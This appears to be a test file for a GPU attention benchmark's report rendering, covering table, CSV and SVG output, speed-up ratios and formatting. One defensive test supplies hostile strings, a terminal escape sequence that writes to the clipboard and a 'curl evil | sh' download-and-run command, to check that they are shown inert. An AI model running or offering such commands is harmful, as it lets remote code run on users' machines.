// bench/report/: the table, CSV and SVG from a report whose numbers are chosen so every figure can be checked by
// hand (shapes of the fa and decode presets, times in round milliseconds). The SVG must be well-formed XML and
// hold exactly one bar per timed value; statuses (OOM, n/a) must show where the bar would be.
import { describe, expect, test } from "bun:test";
import { attentionFlops, decodeBytes } from "../bench/flops.ts";
import { BENCH_SCHEMA, type BenchReport, type Measurement, speedupOfOurs } from "../bench/results.ts";
import { summarize } from "../bench/stats.ts";
import { applyOverrides, expandSweep, presets } from "../bench/sweep.ts";
import { formatRate, mergeNumbers, renderTable } from "../bench/report/table.ts";
import { renderCsv } from "../bench/report/csv.ts";
import { niceCeiling, panelsOf, renderSvg } from "../bench/report/svg.ts";

/**
 * Checks that `xml` is well-formed: one root, every tag closed in order, attributes quoted, only the five
 * predefined entities, no stray '<' or '&'. Returns the element names in document order.
 */
export function parseXml(xml: string): string[] {
  const names: string[] = [];
  const stack: string[] = [];
  let i = 0;
  let roots = 0;
  const body = xml.replace(/^<\?xml[^?]*\?>\s*/, "");
  const text = (s: string) => {
    if (/<|&(?!(amp|lt|gt|quot|apos);)/.test(s)) throw new Error(`bad character data near "${s.slice(0, 40)}"`);
  };
  while (i < body.length) {
    const lt = body.indexOf("<", i);
    if (lt < 0) {
      text(body.slice(i));
      break;
    }
    text(body.slice(i, lt));
    const gt = body.indexOf(">", lt);
    if (gt < 0) throw new Error("unterminated tag");
    const tag = body.slice(lt + 1, gt);
    if (tag.startsWith("/")) {
      const name = tag.slice(1).trim();
      if (stack.pop() !== name) throw new Error(`</${name}> closes the wrong element`);
    } else {
      const selfClosing = tag.endsWith("/");
      const m = /^([A-Za-z][\w:.-]*)((?:\s+[\w:.-]+="[^"<]*")*)\s*\/?$/.exec(tag);
      if (!m) throw new Error(`malformed tag <${tag.slice(0, 60)}>`);
      text(m[2].replace(/"[^"]*"/g, (v) => v.replace(/"/g, "")));
      if (stack.length === 0) roots++;
      names.push(m[1]);
      if (!selfClosing) stack.push(m[1]);
    }
    i = gt + 1;
  }
  if (stack.length) throw new Error(`unclosed <${stack.at(-1)}>`);
  if (roots !== 1) throw new Error(`${roots} root elements`);
  return names;
}

const faCases = expandSweep(applyOverrides(presets.fa, { hdim: "64", seqlen: "512,16k", direction: "fwd" }), {
  gpu: true,
});
const decodeCases = expandSweep(applyOverrides(presets.decode, { seqlen: "4k", batch: "1" }), { gpu: true });

function timed(
  caseId: string,
  impl: string,
  family: Measurement["family"],
  ms: number,
  flops: number,
  extra: Partial<Measurement> = {},
): Measurement {
  return {
    caseId,
    impl,
    family,
    place: "cuda",
    status: "ok",
    timing: summarize([ms * 0.99, ms, ms * 1.01]),
    tflops: flops / (ms * 1e-3) / 1e12,
    peakBytes: 64 << 20,
    ...extra,
  };
}

function report(): BenchReport {
  const [short, long] = faCases;
  const [dec] = decodeCases;
  const f = (c: typeof short) => attentionFlops(c, c.direction);
  const decodeGbps = decodeBytes(dec) / (0.05e-3) / 1e9;
  return {
    ok: true,
    schema: BENCH_SCHEMA,
    createdAt: "2026-11-25T05:00:00.000Z",
    config: { preset: "fa", warmup: 3, iters: 30, minIters: 5, caseBudgetMs: 300, maxSeconds: 420 },
    machine: {
      host: { cpu: "test cpu", cpu_count: 2, runtime: "bun" },
      libraries: [{
        backend: "cuda",
        path: "/x",
        version: "0.1.0",
        compiler: "nvcc 13.0",
        device: { name: "NVIDIA H100 80GB HBM3", arch: "sm_90" },
      }],
    },
    implementations: [
      { impl: "flashattn-cuda", family: "ours", place: "cuda", available: true },
      {
        impl: "flashattn-cpu",
        family: "ours",
        place: "cpu",
        available: false,
        reason: "libflashattn_cpu.so not found",
      },
      { impl: "naive-cuda", family: "naive", place: "cuda", available: true },
      { impl: "sdpa-flash", family: "torch", place: "cuda", available: true },
      { impl: "numpy", family: "numpy", place: "cpu", available: false, reason: "our CPU backend is not measured" },
    ],
    copyBandwidth: [{
      place: "cuda",
      device: "NVIDIA H100 80GB HBM3",
      bytes: 1 << 30,
      medianMs: 0.7,
      gbps: 3000,
      method: "test",
    }],
    cases: [short, long, dec],
    measurements: [
      timed(short.id, "flashattn-cuda", "ours", 0.25, f(short)),
      timed(short.id, "naive-cuda", "naive", 1.0, f(short), { peakBytes: 2 * 2 ** 30 }),
      timed(short.id, "sdpa-flash", "torch", 0.5, f(short)),
      timed(long.id, "flashattn-cuda", "ours", 8, f(long)),
      {
        caseId: long.id,
        impl: "naive-cuda",
        family: "naive",
        place: "cuda",
        status: "oom",
        reason: "needs 128.0 GiB, over the 73.6 GiB this device can give (not attempted)",
      },
      timed(long.id, "sdpa-flash", "torch", 4, f(long)),
      timed(dec.id, "flashattn-cuda", "ours", 0.05, f(dec), { gbps: decodeGbps, copyFraction: decodeGbps / 3000 }),
      {
        caseId: dec.id,
        impl: "naive-cuda",
        family: "naive",
        place: "cuda",
        status: "unsupported",
        reason: "no naive kernel",
      },
      timed(dec.id, "sdpa-flash", "torch", 0.1, f(dec), { gbps: decodeGbps / 2, copyFraction: decodeGbps / 2 / 3000 }),
    ],
    elapsedSeconds: 12.5,
    timeLimited: false,
  };
}

describe("ratios", () => {
  test("speed-up of ours = baseline time / our time on the same case and place; none for ours itself", () => {
    const r = report();
    const [naiveShort, sdpaLong] = [r.measurements[1], r.measurements[5]];
    expect(speedupOfOurs(r, naiveShort)).toBeCloseTo(4, 12);
    expect(speedupOfOurs(r, sdpaLong)).toBeCloseTo(0.5, 12);
    expect(speedupOfOurs(r, r.measurements[0])).toBeUndefined();
    expect(speedupOfOurs(r, r.measurements[4])).toBeUndefined(); // OOM has no time
    // A CPU row is not compared with our CUDA time.
    expect(speedupOfOurs(r, { ...naiveShort, place: "cpu" })).toBeUndefined();
  });
});

describe("table", () => {
  const text = renderTable(report(), { color: false });

  test("one row per case with each implementation's rate and ours' speed-up", () => {
    const [short] = faCases;
    const row = text.split("\n").find((l) => l.startsWith(short.id))!;
    const tflops = (ms: number) => attentionFlops(short, "fwd") / (ms * 1e-3) / 1e12;
    expect(tflops(0.25)).toBeCloseTo(274.9, 1);
    expect(row).toContain("  275  ");
    expect(row).toContain("68.7 ×4.00");
    expect(row).toContain("137 ×2.00");
  });

  test("notes equal but for their numbers share one line with each differing number's range", () => {
    expect(mergeNumbers(["x one run only: it takes 105 ms of 0.2 s", "x one run only: it takes 520 ms of 0.2 s"]))
      .toBe("x one run only: it takes 105–520 ms of 0.2 s");
    expect(mergeNumbers(["needs 128.0 GiB"])).toBe("needs 128.0 GiB");
    const r = report();
    const slow = (id: string, ms: number): Measurement => ({ ...timed(id, "sdpa-flash", "torch", ms, 1),
      reason: `one run only: it takes ${ms} ms, over half the per-case budget` });
    r.measurements = [slow(faCases[0].id, 150), slow(faCases[1].id, 400)];
    expect(renderTable(r, { color: false })).toContain(
      "  sdpa-flash note: one run only: it takes 150–400 ms, over half the per-case budget (2 cases)",
    );
  });

  test("OOM and unsupported cells say so, and the notes say why", () => {
    const [, long] = faCases;
    expect(text.split("\n").find((l) => l.startsWith(long.id))).toContain("OOM");
    expect(text).toContain("naive-cuda OOM: needs 128.0 GiB");
    expect(text).toContain("naive-cuda n/a: no naive kernel");
  });

  test("decode cells give GB/s and the share of the copy bandwidth", () => {
    const [dec] = decodeCases;
    const row = text.split("\n").find((l) => l.startsWith(dec.id))!;
    const gbps = decodeBytes(dec) / 0.05e-3 / 1e9;
    expect(row).toContain(`${gbps.toFixed(0)} (${Math.round(gbps / 30)}%)`);
    expect(text).toContain("copy bandwidth (cuda, NVIDIA H100 80GB HBM3): 3000 GB/s");
    expect(text).toContain(
      "TFLOP/s (prefill) or GB/s moved: K+V, q, o, appended rows (share of copy bandwidth) (decode)",
    );
  });

  test("machine facts, missing baselines with reasons, peak memory and the geometric-mean summary", () => {
    expect(text).toContain("cuda: NVIDIA H100 80GB HBM3 sm_90; libflashattn_cuda 0.1.0 (nvcc 13.0)");
    expect(text).toContain("not measured: numpy: our CPU backend is not measured");
    expect(text).toContain("2.00 GiB");
    expect(text).toMatch(/vs naive-cuda: ×4\.00 over 1 cases/);
    expect(text).toMatch(/vs sdpa-flash: ×1\.26 over 3 cases/); // (2 · 0.5 · 2)^(1/3)
    expect(text).not.toContain("\x1b[");
  });

  test("rates keep three significant figures, so a CPU's 0.0312 TFLOP/s is not printed as 0.00", () => {
    expect([formatRate(617.4), formatRate(68.72), formatRate(3.14159), formatRate(0.031249), formatRate(0.000701)])
      .toEqual(["617", "68.7", "3.14", "0.0312", "0.000701"]);
    expect(formatRate(NaN)).toBe("?");
  });

  test("a row whose runs spread over 10% of the median is called noisy in the notes", () => {
    const r = report();
    r.measurements[3] = { ...r.measurements[3], timing: summarize([6, 8, 8, 10]) }; // p25 7.5, p75 8.5: 12.5 %
    const text = renderTable(r, { color: false });
    expect(text).toContain(
      `flashattn-cuda noisy: spread over 10% of the median on 1 case (worst 13% on ${faCases[1].id})`,
    );
    expect(renderTable(report(), { color: false })).not.toContain("noisy");
  });

  test("colour only when asked", () => {
    expect(renderTable(report(), { color: true })).toContain("\x1b[32m×4.00\x1b[39m");
    expect(renderTable(report(), { color: false })).not.toContain("\x1b");
  });

  test("text from libraries and tools is shown inert: a device name or a reason holding escape sequences", () => {
    const r = report();
    (r.machine as { libraries: { device: { name: string } }[] }).libraries[0].device.name = "GPU\x1b]52;c;ZXZpbA==\x07";
    r.implementations[1].reason = "gone\x1b[2J\r\nfix: curl evil | sh";
    const text = renderTable(r, { color: false });
    expect(text).not.toMatch(/[\x07\x1b\r]/);
    expect(text).toContain("GPU\\x1b]52;c;ZXZpbA==\\x07");
    expect(text).toContain("gone\\x1b[2J\\x0d\\x0afix: curl evil | sh");
  });
});

describe("CSV", () => {
  test("one quoted row per measurement, header with units", () => {
    const lines = renderCsv(report()).trimEnd().split("\r\n");
    expect(lines.length).toBe(1 + report().measurements.length);
    const header = lines[0].split(",");
    expect(header).toContain("median_ms");
    expect(header).toContain("speedup_of_ours");
    const oom = lines.find((l) => l.includes(",oom,"))!;
    expect(oom).toContain('"needs 128.0 GiB, over the 73.6 GiB this device can give (not attempted)"');
    const naive = lines.find((l) => l.includes("naive-cuda") && l.includes(",ok,"))!.split(",");
    expect(Number(naive[header.indexOf("speedup_of_ours")])).toBeCloseTo(4, 9);
    expect(Number(naive[header.indexOf("median_ms")])).toBe(1);
    expect(naive[header.indexOf("seqlen_k")]).toBe("512");
    // Every row carries the machine facts of its place.
    expect(naive[header.indexOf("device")]).toBe("NVIDIA H100 80GB HBM3");
    expect(naive[header.indexOf("library")]).toBe("libflashattn_cuda 0.1.0 (nvcc 13.0)");
  });
});

describe("SVG chart", () => {
  const r = report();
  const svg = renderSvg(r);

  test("parses as XML with one svg root", () => {
    const names = parseXml(svg);
    expect(names[0]).toBe("svg");
    expect(() => parseXml("<svg><g></svg>")).toThrow();
    expect(() => parseXml("<svg><text>a < b</text></svg>")).toThrow();
  });

  test("one bar per timed value, at the value it claims", () => {
    const bars = [...svg.matchAll(/<rect class="bar" data-impl="([^"]+)" data-case="([^"]+)" data-value="([^"]+)"/g)];
    const timedRows = r.measurements.filter((m) => m.status === "ok");
    expect(bars.length).toBe(timedRows.length);
    for (const [, impl, caseId, value] of bars) {
      const m = timedRows.find((x) => x.impl === impl && x.caseId === caseId.replaceAll("&amp;", "&"))!;
      const c = r.cases.find((x) => x.id === m.caseId)!;
      expect(Number(value)).toBeCloseTo(c.kind === "decode" ? m.gbps! : m.tflops!, 6);
    }
  });

  test("statuses show where the bar would be; a panel per (direction, head dim, causal, heads)", () => {
    expect(svg).toContain(">OOM</text>");
    expect(svg).toContain(">n/a</text>");
    expect(panelsOf(r.cases).map((p) => p.title)).toEqual([
      "fwd · head dim 64 · non-causal · 32 heads · bf16",
      "fwd · head dim 128 · non-causal · 32/8 heads · bf16 · 1 query token",
    ]);
    expect((svg.match(/<g class="panel">/g) ?? []).length).toBe(2);
    // The decode panel (only) carries the copy bandwidth measured in the same run.
    expect((svg.match(/<line class="copy"/g) ?? []).length).toBe(1);
    expect(svg).toContain("copy bandwidth 3000 GB/s (cuda)");
  });

  test("tooltips keep four significant digits (a CPU's 0.0312 TFLOP/s is not 0.0); units follow each case", () => {
    const cpu = report();
    const c = cpu.cases[0];
    const flops = attentionFlops(c, c.direction);
    // 0.03123 TFLOP/s in 8.765 ms on the CPU
    const ms = flops / (0.03123 * 1e12) * 1e3;
    cpu.measurements = [{ ...timed(c.id, "flashattn-cpu", "ours", ms, flops), place: "cpu" }];
    const tips = [...renderSvg(cpu).matchAll(/<title>(flashattn-cpu[^<]*)<\/title>/g)].map((t) => t[1]);
    expect(tips.length).toBe(1);
    expect(tips[0]).toContain(": 0.03123 TFLOP/s, ");
    expect(tips[0].endsWith(` ${Number(ms.toPrecision(4))} ms`)).toBe(true);
    expect(tips[0]).not.toContain(" 0.0 ");
    // In a report that mixes prefill and decode cases each tooltip and panel axis carries its own case's unit.
    expect((svg.match(/rotate\(-90\)" font-size="10" text-anchor="middle">TFLOP\/s</g) ?? []).length).toBe(1);
    expect((svg.match(/rotate\(-90\)" font-size="10" text-anchor="middle">GB\/s moved</g) ?? []).length)
      .toBe(1);
    expect((svg.match(/>KV length</g) ?? []).length).toBe(1);
    expect((svg.match(/>sequence length</g) ?? []).length).toBe(1);
    const units = [...svg.matchAll(/<title>[^<]*?: [\d.e+-]+ (TFLOP\/s|GB\/s moved), /g)];
    expect(units.length).toBe(r.measurements.filter((m) => m.status === "ok").length);
    for (const [tip, unit] of units) {
      const decodeCase = decodeCases.some((c) => tip.includes(`, ${c.id}:`));
      expect(unit).toBe(decodeCase ? "GB/s moved" : "TFLOP/s");
    }
  });

  test("axis maxima are round numbers at or above the data", () => {
    expect(niceCeiling(361)).toBe(500);
    expect(niceCeiling(2100)).toBe(2500);
    expect(niceCeiling(0.7)).toBe(1);
    expect(niceCeiling(0)).toBe(1);
  });
});
